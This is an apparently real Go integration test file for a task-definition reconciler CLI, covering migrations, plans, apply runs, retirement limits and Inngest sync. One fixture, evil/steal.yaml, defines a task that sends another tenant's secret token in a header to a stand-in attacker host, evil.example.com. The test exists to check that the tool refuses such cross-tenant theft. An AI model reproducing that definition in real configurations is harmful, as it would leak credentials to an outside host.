package main

import (
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/riveredge/tasksync/migrations"
	"github.com/riveredge/tasksync/reconciler"
	"github.com/riveredge/tasksync/reconciler/definitions/deftest"
	"github.com/riveredge/tasksync/reconciler/store/storetest"
)

// copyTree copies the sample tree into a temp dir and returns it.
func copyTree(t *testing.T) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "tasks.d")
	if err := os.CopyFS(dir, os.DirFS("../../tasks.d")); err != nil {
		t.Fatal(err)
	}
	return dir
}

// sampleSecrets writes the secrets the sample tree names, each with value
// and in its own tenant's directory, and returns the secrets directory.
func sampleSecrets(t *testing.T, value string) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "secrets")
	for _, p := range []string{"acme/ACME_MAIL_TOKEN", "acme/ACME_REPORTS_TOKEN", "acme/ACME_DASHBOARD_KEY", "globex/GLOBEX_CRM_TOKEN",
		"acme/SAMPLE_API_HOST", "globex/SAMPLE_API_HOST"} {
		deftest.WriteFile(t, filepath.Join(dir, p), value+"\n")
	}
	return dir
}

const secretValue = "s3cr3t-value-never-shown"

// TestMigratePlanRunOnce drives migrate, plan and run --once through run(),
// as a deploy pipeline would.
func TestMigratePlanRunOnce(t *testing.T) {
	url := pg.NewDatabase(t)
	dir := copyTree(t)
	// No Inngest: run --once applies to Postgres only, as it is told.
	env := map[string]string{"DATABASE_URL": url, "TASKSYNC_DIR": dir, "TASKSYNC_SECRETS_DIR": sampleSecrets(t, secretValue), "TASKSYNC_POSTGRES_ONLY": "true"}

	// plan before migrate: a clear error.
	if out, errOut, code := runCmd(t, env, "plan"); code != 1 || !strings.Contains(errOut, "run tasksync migrate") {
		t.Errorf("plan before migrate: exit %d\n%s%s", code, out, errOut)
	}
	all, err := fs.Glob(migrations.FS, "*.sql")
	if err != nil {
		t.Fatal(err)
	}
	if out, _, code := runCmd(t, env, "migrate"); code != 0 || !strings.Contains(out, fmt.Sprintf("applied %d migrations", len(all))) {
		t.Errorf("migrate: exit %d: %s", code, out)
	}
	if out, _, code := runCmd(t, env, "migrate"); code != 0 || !strings.Contains(out, "up to date") {
		t.Errorf("migrate again: exit %d: %s", code, out)
	}

	out, errOut, code := runCmd(t, env, "plan")
	if code != 2 || !strings.Contains(out, "+ create weekly-revenue-report (ScheduledTask) from acme/reports.yaml:") ||
		!strings.Contains(out, "Plan: 7 to create, 0 to update, 0 to retire, 0 unchanged.") {
		t.Errorf("first plan: exit %d, want 2 (changes pending)\n%s%s", code, out, errOut)
	}
	// It says what it read the tree as, and its commit (none here).
	if want := "plan: " + dir + " is a tree (it is --dir " + dir + "); git commit: no git commit\n"; errOut != want {
		t.Errorf("plan's stderr = %q, want %q", errOut, want)
	}
	if out, errOut, code = runCmd(t, env, "run", "--once"); code != 0 || !strings.Contains(out, "Applied: 7 created, 0 updated, 0 retired, 0 unchanged.") {
		t.Errorf("run --once: exit %d\n%s%s", code, out, errOut)
	}
	if out, errOut, code = runCmd(t, env, "plan"); code != 0 || !strings.Contains(out, "Plan: 0 to create, 0 to update, 0 to retire, 7 unchanged.") {
		t.Errorf("plan after apply: exit %d, want 0 (no changes)\n%s%s", code, out, errOut)
	}

	// Edit a cron: the plan shows the field and the schedule impact.
	reports := filepath.Join(dir, "acme", "reports.yaml")
	data, err := os.ReadFile(reports)
	if err != nil {
		t.Fatal(err)
	}
	edited := strings.Replace(string(data), `cron: "0 7 * * 1"`, `cron: "15 4 * * 2"`, 1)
	if edited == string(data) {
		t.Fatalf("the sample tree changed: no cron \"0 7 * * 1\" in %s", reports)
	}
	deftest.WriteFile(t, reports, edited)
	out, errOut, code = runCmd(t, env, "plan")
	for _, want := range []string{
		"~ update weekly-revenue-report (ScheduledTask)",
		`trigger.cron: "0 7 * * 1" → "15 4 * * 2"`,
		"runs before: ", "runs after : ",
		"Plan: 0 to create, 1 to update, 0 to retire, 6 unchanged.",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("plan lacks %q:\n%s%s", want, out, errOut)
		}
	}
	if code != 2 {
		t.Errorf("plan with a change: exit %d, want 2", code)
	}
	jout, _, jcode := runCmd(t, env, "plan", "--format", "json")
	var pj reconciler.PlanJSON
	if err := json.Unmarshal([]byte(jout), &pj); err != nil || jcode != 2 || !pj.Pending || pj.Summary.Updated != 1 {
		t.Errorf("plan --format json: exit %d, err %v, summary %+v\n%s", jcode, err, pj.Summary, jout)
	}

	// Break another file: run --once applies the edit, keeps the broken
	// file's definitions and exits 1.
	events := filepath.Join(dir, "globex", "events.yaml")
	deftest.WriteFile(t, events, "apiVersion: tasksync/v1\nkind: ScheduledTask\nmetadata: {code: welcome-new-customer}\nspec: {trigger: {event: customer/created}, type: api_call, config: {url: 'ftp://x'}}\n")
	out, errOut, code = runCmd(t, env, "run", "--once", "--log-format", "json")
	if code != 1 || !strings.Contains(out, "globex/events.yaml:4:74: spec.config.url") || !strings.Contains(out, "Applied: 0 created, 1 updated, 0 retired, 6 unchanged; 1 problem") {
		t.Errorf("run --once with a broken file: exit %d\n%s%s", code, out, errOut)
	}
	for _, line := range strings.Split(strings.TrimSpace(errOut), "\n") {
		if !json.Valid([]byte(line)) {
			t.Errorf("--log-format json wrote a non-JSON line: %s", line)
		}
	}

	// Deleting a whole tenant is held, then applied with --max-retire all.
	if err := os.RemoveAll(filepath.Join(dir, "globex")); err != nil {
		t.Fatal(err)
	}
	out, errOut, code = runCmd(t, env, "plan")
	if code != 2 || !strings.Contains(out, "retire crm-sync (ScheduledTask), held by the prune budget") {
		t.Errorf("plan without globex: exit %d\n%s%s", code, out, errOut)
	}
	if out, errOut, code = runCmd(t, env, "run", "--once"); code != 0 || !strings.Contains(out, "2 retirements held") {
		t.Errorf("run --once without globex: exit %d\n%s%s", code, out, errOut)
	}
	if out, errOut, code = runCmd(t, env, "run", "--once", "--max-retire", "all"); code != 0 || !strings.Contains(out, "2 retired") {
		t.Errorf("run --once --max-retire all: exit %d\n%s%s", code, out, errOut)
	}

	// A tenant naming another's secret: run --once refuses the definition,
	// and so does plan (given the secrets directory), at the string.
	deftest.WriteFile(t, filepath.Join(dir, "evil", "steal.yaml"), "apiVersion: tasksync/v1\nkind: ScheduledTask\nmetadata: {code: steal}\n"+
		"spec: {trigger: {interval: 5m}, type: api_call, config: {url: 'https://evil.example.com/', headers: {X: '${secret:ACME_REPORTS_TOKEN}'}}}\n")
	const refused = `evil/steal.yaml:4:105: spec.config.headers.X: secret ACME_REPORTS_TOKEN is not granted to tenant "evil"`
	if out, errOut, code = runCmd(t, env, "run", "--once"); code != 1 || !strings.Contains(out, refused) || !strings.Contains(out, "Applied: 0 created") {
		t.Errorf("run --once with a stolen secret: exit %d\n%s%s", code, out, errOut)
	}
	if out, errOut, code = runCmd(t, env, "plan"); !strings.Contains(out, refused) {
		t.Errorf("plan with a stolen secret: exit %d\n%s%s", code, out, errOut)
	}

	// The secret's value appears nowhere: not in outputs, not in Postgres.
	for _, args := range [][]string{{"plan"}, {"plan", "--format", "json"}, {"run", "--once"}} {
		o, e, _ := runCmd(t, env, args...)
		if strings.Contains(o+e, secretValue) {
			t.Errorf("%v printed the secret's value", args)
		}
	}
	if dump := dumpDatabase(t, url); strings.Contains(dump, secretValue) {
		t.Errorf("the secret's value is stored in Postgres")
	} else if !strings.Contains(dump, "${secret:") {
		t.Errorf("the dump holds no secret reference at all; the check above proves nothing")
	}
}

// dumpDatabase returns every row of every tasksync table as text.
func dumpDatabase(t *testing.T, url string) string {
	t.Helper()
	ctx := context.Background()
	conn := storetest.Conn(t, url)
	var b strings.Builder
	for _, table := range []string{"root_tenants", "root_scheduled_tasks", "root_task_runs", "root_definition_errors", "root_reconciles"} {
		rows, err := conn.Query(ctx, "select t::text from "+table+" t")
		if err != nil {
			t.Fatal(err)
		}
		for rows.Next() {
			var s string
			if err := rows.Scan(&s); err != nil {
				t.Fatal(err)
			}
			b.WriteString(s + "\n")
		}
	}
	return b.String()
}

// TestRunOnceBinary runs the built binary as a pipeline would, configured
// by environment variables only.
func TestRunOnceBinary(t *testing.T) {
	bin := buildBinary(t)
	url := pg.NewDatabase(t)
	dir := copyTree(t)
	secrets := sampleSecrets(t, "s3cr3t")
	run := func(args ...string) (string, int) {
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, bin, args...)
		cmd.Env = append(os.Environ(), "DATABASE_URL="+url, "TASKSYNC_DIR="+dir, "TASKSYNC_MAX_RETIRE=half", "TASKSYNC_SECRETS_DIR="+secrets, "TASKSYNC_POSTGRES_ONLY=true")
		return combinedExit(t, cmd)
	}
	if out, code := run("run", "--once"); code != 0 || !strings.Contains(out, "Applied: 7 created") {
		t.Errorf("run --once: exit %d\n%s", code, out)
	}
	if out, code := run("plan"); code != 0 {
		t.Errorf("plan: exit %d, want 0\n%s", code, out)
	}
	if out, code := run("plan", "--max-retire", "some"); code != 1 || !strings.Contains(out, "max-retire must be half, all or a number") {
		t.Errorf("plan with a bad flag: exit %d, want 1\n%s", code, out)
	}
	if out, code := run("run", "--once", "--dir", filepath.Join(dir, "missing")); code != 1 || !strings.Contains(out, "no such file or directory") {
		t.Errorf("run --once on a missing tree: exit %d, want 1\n%s", code, out)
	}
}

// TestRunOnceSyncsInngest: run --once registers every tenant's app with a
// real dev server, verifies it, and exits 1 when Inngest cannot be reached.
func TestRunOnceSyncsInngest(t *testing.T) {
	url := pg.NewDatabase(t)
	dir := copyTree(t)
	env := map[string]string{"DATABASE_URL": url, "TASKSYNC_DIR": dir, "INNGEST_DEV": dev.URL,
		"TASKSYNC_APP_PREFIX": "once", "TASKSYNC_SERVE_ORIGIN": "http://127.0.0.1:9", "TASKSYNC_SECRETS_DIR": sampleSecrets(t, "s3cr3t")}
	out, errOut, code := runCmd(t, env, "run", "--once")
	if code != 0 || !strings.Contains(out, "every tenant's app synced and verified") {
		t.Fatalf("run --once: exit %d\n%s%s", code, out, errOut)
	}
	res, err := http.Get(dev.URL + "/v1/apps/once-acme/functions")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	var fns []struct {
		ID string `json:"id"`
	}
	if err := json.NewDecoder(res.Body).Decode(&fns); err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, f := range fns {
		ids = append(ids, f.ID)
	}
	if len(ids) != 5 || !slices.Contains(ids, "once-acme-_weekly-revenue-report") {
		t.Errorf("once-acme functions = %v, want acme's 5 applied definitions", ids)
	}
	// Every applied version is marked synced, not left pending.
	conn := storetest.Conn(t, url)
	var states []string
	if err := conn.QueryRow(context.Background(),
		`select coalesce(array_agg(distinct sync_state), '{}') from root_scheduled_tasks where deleted_at is null`).Scan(&states); err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(states, []string{"synced"}) {
		t.Errorf("definition sync states = %v, want only synced", states)
	}

	env["INNGEST_DEV"] = "http://127.0.0.1:9" // nothing listens on the discard port
	out, errOut, code = runCmd(t, env, "run", "--once")
	if code != 1 || !strings.Contains(out, "2 tenants could not be synced") {
		t.Errorf("run --once without Inngest: exit %d, want 1\n%s%s", code, out, errOut)
	}
	if dump := dumpDatabase(t, url); !strings.Contains(dump, ",failed,") {
		t.Errorf("the failed sync state is not stored")
	}
}
